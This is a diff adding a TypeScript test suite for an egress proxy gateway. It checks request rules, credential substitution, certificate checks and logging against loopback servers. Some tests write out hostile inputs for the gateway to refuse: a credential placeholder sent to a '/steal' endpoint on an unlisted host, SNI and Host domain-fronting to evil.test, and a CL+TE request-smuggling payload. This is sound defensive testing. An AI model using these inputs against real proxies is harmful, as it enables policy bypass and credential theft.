@@ -1,0 +1,362 @@
+import assert from 'node:assert/strict';
+import { execFile } from 'node:child_process';
+import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
+import { request as httpRequest } from 'node:http';
+import { createServer as createHttpsServer, type Server } from 'node:https';
+import type { AddressInfo, Socket } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import { type TLSSocket, connect as tlsConnect } from 'node:tls';
+import { promisify } from 'node:util';
+import type { EgressEvent } from '../../common/event.js';
+import {
+  decide,
+  decideRequest,
+  inspects,
+  isPrivateAddress,
+  nameAllowed,
+  parsePolicy,
+  staticChanges,
+} from '../../policy/index.js';
+import { Budget } from '../budget.js';
+import { type RunningGateway, runGateway } from '../server.js';
+import { SyntheticPool } from '../synthetic.js';
+import { SessionCa } from '../tls/ca.js';
+
+// Real sockets, real TLS, real curl, no engine: a proxy-only gateway on loopback, a "sandbox" registered at
+// 127.0.0.1, and HTTPS upstreams on loopback with certificates from a test CA (passed as --upstream-ca).
+
+const run = promisify(execFile);
+/** The gateway listens on a loopback address of its own: 16 consecutive free ports are easier to find there. */
+const GATEWAY_IP = `127.${1 + Math.floor(Math.random() * 250)}.${Math.floor(Math.random() * 250)}.${2 + Math.floor(Math.random() * 250)}`;
+const SECRET = 'sk-ant-api03-REAL-SECRET-0123456789abcdef';
+const PLACEHOLDER = 'sk-ant-paddock-placeholder-0000000000000000';
+
+describe('inspected connections through the explicit proxy (terminated TLS, request rules, credentials)', () => {
+  let gateway: RunningGateway;
+  let upstream: Server;
+  let untrusted: Server;
+  let port = 0;
+  let untrustedUrl = '';
+  let testCa: SessionCa;
+  const seen: { method: string; url: string; auth: string | undefined; body: string }[] = [];
+  const logs: string[] = [];
+
+  const listen = (server: Server) =>
+    new Promise<number>((r) =>
+      server.listen(0, '127.0.0.1', () => r((server.address() as AddressInfo).port)),
+    );
+  const serving = (ca: SessionCa, handler: Parameters<typeof createHttpsServer>[1]) =>
+    createHttpsServer(
+      { SNICallback: (name, cb) => ca.contextFor(name).then((c) => cb(null, c), cb) },
+      handler,
+    );
+
+  before(async () => {
+    const dir = await mkdtemp(join(tmpdir(), 'paddock-inspect-'));
+    testCa = await SessionCa.create('test-upstream');
+    await writeFile(join(dir, 'test-ca.pem'), testCa.certPem);
+    upstream = serving(testCa, (req, res) => {
+      let body = '';
+      req.on('data', (d: Buffer) => {
+        body += d.toString();
+      });
+      req.on('end', () => {
+        const auth = req.headers['x-api-key'] as string | undefined;
+        seen.push({ method: req.method ?? '', url: req.url ?? '', auth, body });
+        res.end(`upstream ${req.method} ${req.url} ${auth === SECRET ? 'key-ok' : 'no-key'} ${body}`);
+      });
+    });
+    // A WebSocket-like upgrade: 101, then every byte echoed.
+    upstream.on('upgrade', (req, socket) => {
+      seen.push({ method: `UPGRADE ${req.method}`, url: req.url ?? '', auth: undefined, body: '' });
+      socket.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n');
+      socket.pipe(socket);
+    });
+    port = await listen(upstream);
+    // An upstream whose CA the gateway was not told about.
+    untrusted = serving(await SessionCa.create('rogue'), (_q, r) => r.end('should not be reached'));
+    const untrustedPort = await listen(untrusted);
+    untrustedUrl = `https://untrusted.example.test:${untrustedPort}/`;
+    const policy = parsePolicy(
+      `version: 1
+network_policies:
+  api:
+    endpoints:
+      - host: api.example.test
+        port: ${port}
+        protocol: rest
+        enforcement: enforce
+        access: read-only
+        deny_rules: [{ method: GET, path: /admin/** }]
+      - { host: rw.example.test, port: ${port}, protocol: rest, enforcement: enforce, access: read-write }
+      - { host: plain.example.test, port: ${port} }
+      - { host: other.example.test, port: ${port} }
+      - { host: untrusted.example.test, port: ${untrustedPort}, tls: terminate }
+    binaries: [{ path: /usr/bin/curl }]
+`,
+      'p.yaml',
+    ).policy;
+    gateway = await runGateway({
+      session: 'inspect',
+      stateDir: dir,
+      bridgeIp: GATEWAY_IP,
+      proxyOnly: true,
+      hosts: Object.fromEntries(
+        ['api', 'rw', 'plain', 'other', 'untrusted'].map((h) => [`${h}.example.test`, '127.0.0.1']),
+      ),
+      upstreamCa: [join(dir, 'test-ca.pem')],
+      rules: { decide, nameAllowed, isPrivateAddress, staticChanges, decideRequest, inspects },
+      log: (line) => logs.push(line),
+    });
+    gateway.context.sandboxes.set('box', {
+      name: 'box',
+      run: 'r1',
+      ip: '127.0.0.1',
+      pid: process.pid,
+      netns: '',
+      started: null,
+      policy,
+      pool: new SyntheticPool(),
+      budget: new Budget(),
+      credentials: [
+        { name: 'ANTHROPIC_API_KEY', placeholder: PLACEHOLDER, secret: SECRET, hosts: ['api.example.test'] },
+      ],
+    });
+  });
+
+  after(async () => {
+    await gateway.close();
+    upstream.close();
+    untrusted.close();
+  });
+
+  const events = async (): Promise<EgressEvent[]> =>
+    (await readFile(gateway.eventsPath, 'utf8'))
+      .split('\n')
+      .filter(Boolean)
+      .map((l) => JSON.parse(l) as EgressEvent);
+
+  /** curl through the gateway's proxy, trusting only the session CA: bodies, each followed by ` [status]`. */
+  async function curl(args: string[]): Promise<string> {
+    // Through the environment, so every `--next` part uses the proxy and the CA too.
+    const proxy = `http://${GATEWAY_IP}:${gateway.ports.proxy}`;
+    const own = ['-sS', '-w', ' [%{http_code}]\n'];
+    const argv = [...own, ...args.flatMap((x) => (x === '--next' ? [x, ...own] : [x]))];
+    const env = {
+      PATH: process.env.PATH ?? '/usr/bin:/bin',
+      http_proxy: proxy,
+      https_proxy: proxy,
+      CURL_CA_BUNDLE: gateway.trust.ca,
+    };
+    return run('curl', argv, { env }).then(
+      (r) => r.stdout,
+      (e: { stdout?: string; stderr?: string }) => `${e.stdout ?? ''}${e.stderr ?? ''}`,
+    );
+  }
+
+  /** A TLS connection to `target` through a CONNECT tunnel, with the SNI given. */
+  async function tunnel(target: string, servername: string): Promise<TLSSocket> {
+    const socket = await new Promise<Socket>((resolve, reject) => {
+      const req = httpRequest({
+        host: GATEWAY_IP,
+        port: gateway.ports.proxy,
+        method: 'CONNECT',
+        path: target,
+      });
+      req.on('connect', (_res, s) => resolve(s));
+      req.on('error', reject);
+      req.end();
+    });
+    return tlsConnect({
+      socket,
+      servername,
+      ca: gateway.context.tls?.ca.certPem ?? '',
+      rejectUnauthorized: false,
+    });
+  }
+
+  test('GET is allowed and POST denied on the same keep-alive connection, each one http event', async () => {
+    const before = (await events()).length;
+    const url = `https://api.example.test:${port}`;
+    const out = await curl([
+      `${url}/v1/items?token=abc`,
+      '--next',
+      '-X',
+      'POST',
+      '-d',
+      'x=1',
+      `${url}/v1/items`,
+      '--next',
+      `${url}/v1/other`,
+    ]);
+    const lines = out.trim().split('\n');
+    assert.equal(lines[0], 'upstream GET /v1/items?token=abc no-key  [200]');
+    assert.match(
+      lines[1] ?? '',
+      /"error":"policy_denied".*POST \/v1\/items not permitted by policy 'api'.* \[403\]$/,
+    );
+    assert.equal(lines[2], 'upstream GET /v1/other no-key  [200]');
+    const mine = (await events()).slice(before);
+    const http = mine.filter((e) => e.layer === 'http');
+    assert.deepEqual(
+      http.map((e) => [e.action, e.method, e.path, e.status]),
+      [
+        ['allow', 'GET', '/v1/items?token=…', 200],
+        ['deny', 'POST', '/v1/items', 403],
+        ['allow', 'GET', '/v1/other', 200],
+      ],
+    );
+    assert.equal(http[0]?.bytes, Buffer.byteLength('upstream GET /v1/items?token=abc no-key '));
+    assert.equal(
+      mine.filter((e) => e.layer === 'connect').length,
+      1,
+      'one CONNECT decision for the connection',
+    );
+    assert.ok(!seen.some((s) => s.method === 'POST'), 'the denied POST never reached the upstream');
+  });
+
+  test('deny_rules win over the read-only preset', async () => {
+    const out = await curl([`https://api.example.test:${port}/admin/users`]);
+    assert.match(out, /denied by deny_rules\[0\] of policy 'api'.*\[403\]/);
+  });
+
+  test('Expect: 100-continue: a refused upload is answered before its body; an allowed one goes through', async () => {
+    const expect = ['-H', 'Expect: 100-continue', '--data-binary'];
+    const refused = await curl(['-X', 'PUT', ...expect, 'big', `https://api.example.test:${port}/v1/x`]);
+    assert.match(refused, /not permitted.*\[403\]/);
+    const allowed = await curl(['-X', 'PUT', ...expect, 'payload', `https://rw.example.test:${port}/v1/x`]);
+    assert.equal(allowed.trim(), 'upstream PUT /v1/x no-key payload [200]');
+  });
+
+  test('a chunked request body is forwarded whole', async () => {
+    const chunked = ['-H', 'Transfer-Encoding: chunked', '--data-binary', 'part-one'];
+    const out = await curl(['-X', 'POST', ...chunked, `https://rw.example.test:${port}/up`]);
+    assert.equal(out.trim(), 'upstream POST /up no-key part-one [200]');
+  });
+
+  test('the credential: substituted for its host over terminated TLS; its placeholder to another host is denied', async () => {
+    const key = ['-H', `x-api-key: ${PLACEHOLDER}`];
+    const ok = await curl([...key, `https://api.example.test:${port}/v1/messages`]);
+    assert.equal(ok.trim(), 'upstream GET /v1/messages key-ok  [200]');
+    assert.equal(seen.at(-1)?.auth, SECRET, 'the upstream got the real key');
+    const count = seen.length;
+    const other = await curl([...key, `https://other.example.test:${port}/steal`]);
+    assert.match(
+      other,
+      /placeholder of credential ANTHROPIC_API_KEY sent to other\.example\.test, which is not one of its hosts.*\[403\]/,
+    );
+    const plain = await curl([...key, `http://other.example.test:${port}/steal`]);
+    assert.match(plain, /placeholder of credential ANTHROPIC_API_KEY.*\[403\]/);
+    assert.equal(seen.length, count, 'neither request reached an upstream');
+  });
+
+  test('an upstream whose certificate does not chain to the system store or --upstream-ca gets 502 and an event', async () => {
+    const out = await curl([untrustedUrl]);
+    assert.match(out, /"error":"upstream_failed".*\[502\]/);
+    const e = (await events()).filter((x) => x.layer === 'http').at(-1);
+    assert.equal(e?.status, 502);
+    assert.match(e?.reason ?? '', /upstream failed: .*(self-signed|unable to verify|certificate)/i);
+  });
+
+  test('SNI naming another host than the one allowed is refused on a spliced tunnel (no domain fronting)', async () => {
+    const before = (await events()).length;
+    const t = await tunnel(`plain.example.test:${port}`, 'evil.test');
+    const result = await new Promise<string>((resolve) => {
+      t.on('secureConnect', () => resolve('handshake'));
+      t.on('error', () => resolve('refused'));
+      t.on('close', () => resolve('refused'));
+    });
+    assert.equal(result, 'refused');
+    const refusal = (await events()).slice(before).find((e) => /domain fronting/.test(e.reason));
+    assert.equal(refusal?.action, 'deny');
+    assert.match(refusal?.reason ?? '', /TLS server name evil\.test does not match plain\.example\.test/);
+  });
+
+  test('SNI naming another host on an inspected connection is refused too', async () => {
+    const t = await tunnel(`api.example.test:${port}`, 'evil.test');
+    const result = await new Promise<string>((resolve) => {
+      t.on('secureConnect', () => resolve('handshake'));
+      t.on('error', () => resolve('refused'));
+      t.on('close', () => resolve('refused'));
+    });
+    assert.equal(result, 'refused');
+  });
+
+  test('a Host header naming another host on a terminated connection is refused (fronting inside TLS)', async () => {
+    const out = await curl(['-H', 'Host: evil.test', `https://api.example.test:${port}/v1/x`]);
+    assert.match(out, /Host evil\.test does not name api\.example\.test.*\[403\]/);
+  });
+
+  test('malformed HTTP inside terminated TLS: CL+TE, duplicate Content-Length, garbage: 400, the daemon lives', async () => {
+    const send = async (head: string): Promise<string> => {
+      const t = await tunnel(`api.example.test:${port}`, 'api.example.test');
+      t.once('secureConnect', () => t.write(head));
+      return new Promise<string>((resolve) => {
+        let got = '';
+        t.on('data', (d: Buffer) => {
+          got += d.toString();
+        });
+        t.on('close', () => resolve(got));
+        t.on('error', () => resolve(got));
+      });
+    };
+    const host = `Host: api.example.test:${port}\r\n`;
+    const smuggled = `GET /admin/x HTTP/1.1\r\n${host}\r\n`;
+    const clte = await send(
+      `POST /v1/x HTTP/1.1\r\n${host}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`,
+    );
+    assert.match(clte, /^HTTP\/1\.1 400/);
+    const dup = await send(`POST /v1/x HTTP/1.1\r\n${host}Content-Length: 1\r\nContent-Length: 30\r\n\r\nx`);
+    assert.match(dup, /^HTTP\/1\.1 400/);
+    const garbage = await send('\x00\x01\x02 not http at all\r\n\r\n');
+    assert.match(garbage, /^HTTP\/1\.1 400/);
+    const refused = (await events()).filter((e) => /malformed HTTP request/.test(e.reason));
+    assert.ok(refused.length >= 3, `${refused.length} malformed-request events`);
+    assert.ok(refused.every((e) => e.action === 'deny'));
+    assert.ok(!seen.some((s) => s.url.startsWith('/admin')), 'nothing smuggled reached the upstream');
+    assert.match(await curl([`https://api.example.test:${port}/v1/alive`]), /\[200\]/);
+  });
+
+  test('a WebSocket upgrade is decided as its request: allowed ones are joined (101, echo), refused ones get 403', async () => {
+    const upgrade = async (path: string): Promise<string> => {
+      const t = await tunnel(`api.example.test:${port}`, 'api.example.test');
+      const head = `GET ${path} HTTP/1.1\r\nHost: api.example.test:${port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n`;
+      t.once('secureConnect', () => t.write(head));
+      return new Promise<string>((resolve) => {
+        let got = '';
+        t.on('data', (d: Buffer) => {
+          got += d.toString();
+          if (got.includes('\r\n\r\n') && got.startsWith('HTTP/1.1 101') && !got.includes('ping'))
+            t.write('ping');
+          else if (got.includes('ping') || !got.startsWith('HTTP/1.1 101')) {
+            if (got.includes('\r\n\r\n')) t.destroy();
+          }
+        });
+        t.on('close', () => resolve(got));
+      });
+    };
+    const before = (await events()).length;
+    const joined = await upgrade('/v1/stream');
+    assert.match(joined, /^HTTP\/1\.1 101 Switching Protocols\r\n/);
+    assert.match(joined, /\r\n\r\nping$/, 'frames flow both ways once joined');
+    const refused = await upgrade('/admin/stream');
+    assert.match(refused, /^HTTP\/1\.1 403 Forbidden\r\n[\s\S]*denied by deny_rules\[0\]/);
+    const http = (await events()).slice(before).filter((e) => e.layer === 'http');
+    assert.deepEqual(
+      http.map((e) => [e.action, e.method, e.path, e.status]),
+      [
+        ['allow', 'GET', '/v1/stream', 101],
+        ['deny', 'GET', '/admin/stream', 403],
+      ],
+    );
+    assert.ok(!seen.some((x) => x.url === '/admin/stream'));
+  });
+
+  test('the secret appears in no event and no gateway log line', async () => {
+    const text = `${await readFile(gateway.eventsPath, 'utf8')}\n${logs.join('\n')}`;
+    assert.ok(text.includes(PLACEHOLDER) === false && text.length > 0);
+    assert.equal(text.includes(SECRET), false);
+  });
+});
